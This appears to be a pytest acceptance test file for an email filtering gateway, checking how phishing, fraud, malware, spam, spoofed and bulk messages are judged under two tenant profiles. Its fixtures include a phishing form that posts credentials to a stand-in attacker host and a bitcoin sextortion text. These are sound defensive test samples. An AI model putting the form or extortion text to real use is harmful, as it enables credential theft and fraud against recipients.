"""The table of verdicts, row by row: what a message is, and what happens to it under each profile."""

import base64

import pytest

from tests.acceptance.client import envelope
from workshop.rig.samples import EICAR, malware_message, plain_message, spam_message

# The address of the first payment that was ever made public; its checksum is right, and nobody will pay to it.
WALLET = "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa"
EXTORTION = f"""I know your password. You are my victim, and I have watched you through your webcam.
Send 900 EUR in bitcoin to my wallet {WALLET} within two days, or all your friends will see it.
"""
FORM_PAGE = """<html><body><p>Your mailbox is full. Confirm who you are:</p>
<form action="https://collect.attacker.example/take" method="post">
<input type="text" name="user"><input type="password" name="secret"><input type="submit"></form></body></html>
"""
NEWSLETTER = "Precedence: bulk\r\nList-Unsubscribe: <https://pass.example/unsubscribe>\r\n"


def message(text: str, kind: str = "text/plain", headers: str = "") -> bytes:
    """Put another text, in base64, under the headers of the plain sample."""
    head = plain_message(subject="About your account").partition(b"Content-Type")[0]
    encoded = base64.encodebytes(text.encode()).replace(b"\n", b"\r\n")
    kinds = f"{headers}Content-Type: {kind}; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    return head + kinds.encode() + encoded


def with_program() -> bytes:
    """Attach a file that is called a program and is no known malware."""
    return malware_message().replace(EICAR, b"@echo off\r\necho hello").replace(b"minutes.com", b"minutes.bat")


def with_odd_archive() -> bytes:
    """Attach an archive that is called a document and that nobody can open."""
    return malware_message().replace(EICAR, b"7z\xbc\xaf'\x1c" + b"a" * 60).replace(b"minutes.com", b"minutes.pdf")


def nested(depth: int) -> bytes:
    """Nest multiparts deeper than any mail program does."""
    lines = [plain_message().partition(b"Content-Type")[0]]
    for level in range(depth):
        lines.append(f"Content-Type: multipart/mixed; boundary=b{level}\r\n\r\n--b{level}\r\n".encode())
    return b"".join([*lines, b"Content-Type: text/plain\r\n\r\nhello\r\n"])


def recipient(tenant: str) -> dict[str, object]:
    return envelope(envelopeRecipients=[{"acme": "bob@company.example", "bank": "eve@bank.example"}[tenant]])


ROWS = [
    pytest.param(malware_message, "malware", "quarantine", "quarantine", marks=pytest.mark.contract("2 malware")),
    pytest.param(
        lambda: message(FORM_PAGE, "text/html"), "phishing", "quarantine", "quarantine",
        marks=pytest.mark.contract("2 phishing"),
    ),
    pytest.param(
        lambda: message(EXTORTION), "fraud", "quarantine", "quarantine", marks=pytest.mark.contract("2 fraud")
    ),
    pytest.param(spam_message, "spam", "quarantine", "quarantine", marks=pytest.mark.contract("2 spam")),
    pytest.param(with_program, "blocked", "quarantine", "quarantine", marks=pytest.mark.contract("2 blocked")),
    pytest.param(with_odd_archive, "suspicious", "deliver", "quarantine", marks=pytest.mark.contract("2 suspicious")),
    pytest.param(
        lambda: message("News of the month.", headers=NEWSLETTER), "bulk", "deliver", "deliver",
        marks=pytest.mark.contract("2 bulk"),
    ),
    pytest.param(plain_message, "clean", "deliver", "deliver", marks=pytest.mark.contract("2 clean")),
]  # fmt: skip


@pytest.mark.parametrize(("make", "verdict", "balanced", "strict"), ROWS, ids=[str(row.values[1]) for row in ROWS])
def test_a_message_is_judged_and_decided_as_its_row_says(client, engines, make, verdict, balanced, strict):
    signed = engines.dns.sign(make(), "pass.example")

    for tenant, decision in (("acme", balanced), ("bank", strict)):
        answer = client.submit(signed, recipient(tenant))
        assert answer.outcome == (verdict, decision), client.explained(answer.result["ggrid"])["reasons"]


@pytest.mark.contract("2 suspicious")
def test_a_suspicious_message_that_is_delivered_carries_a_warning(client, engines):
    signed = engines.dns.sign(with_odd_archive(), "pass.example")

    assert "policy.warn" in client.submit(signed, recipient("acme")).result["tags"]
    assert "policy.warn" not in client.submit(signed, recipient("bank")).result["tags"]


@pytest.mark.contract("2 spoof")
@pytest.mark.parametrize("domain", ["reject.example", "fail.example", "strict.example"])
def test_a_dmarc_reject_failure_is_spoof(client, domain):
    sender = f"alice@{domain}"

    answer = client.submit(plain_message(sender), envelope(envelopeFrom=sender, remoteAddress="192.0.2.99"))

    assert answer.outcome == ("spoof", "quarantine")
    assert "auth.dmarc-fail" in answer.result["tags"]


@pytest.mark.contract("2 first applies")
def test_malware_of_a_forged_sender_is_malware(client):
    sender = "alice@reject.example"

    answer = client.submit(malware_message(sender), envelope(envelopeFrom=sender, remoteAddress="192.0.2.99"))

    assert answer.outcome == ("malware", "quarantine")
    points = client.explained(answer.result["ggrid"])["points"]
    assert min(points["malware"], points["spoof"]) >= 100


@pytest.mark.contract("2 malware floor")
def test_no_profile_and_no_authentication_delivers_malware(client, engines):
    signed = engines.dns.sign(malware_message(), "pass.example")

    for tenant in ("acme", "bank"):
        answer = client.submit(signed, recipient(tenant))
        assert answer.outcome == ("malware", "quarantine")
        assert "auth.aligned" in answer.result["tags"]
        assert client.explained(answer.result["ggrid"])["decisionTrace"][0]["outcome"].startswith("malware")


@pytest.mark.contract("2 structure limit")
@pytest.mark.parametrize("tenant", ["acme", "bank"])
def test_a_message_built_beyond_a_limit_is_quarantined_in_every_profile_and_rspamd_is_spared(client, tenant):
    answer = client.submit(nested(40), recipient(tenant))

    assert answer.outcome == ("suspicious", "quarantine")
    assert "analysis.structure-limit" in answer.result["tags"]
    asked = {report["analyzer"]: report["status"] for report in client.explained(answer.result["ggrid"])["engines"]}
    assert (asked["rspamd"], asked["clamav"]) == ("skipped", "finished")


@pytest.mark.parametrize("address", ["10.0.0.10", "192.168.1.4", "127.0.0.1"])
def test_mail_from_a_relay_in_a_private_network_gets_a_verdict(client, plain, address):
    answer = client.submit(plain, envelope(envelopeFrom="ada@pass.example", remoteAddress=address))
    assert answer.status == 200
    assert answer.json["verdict"] == "clean"
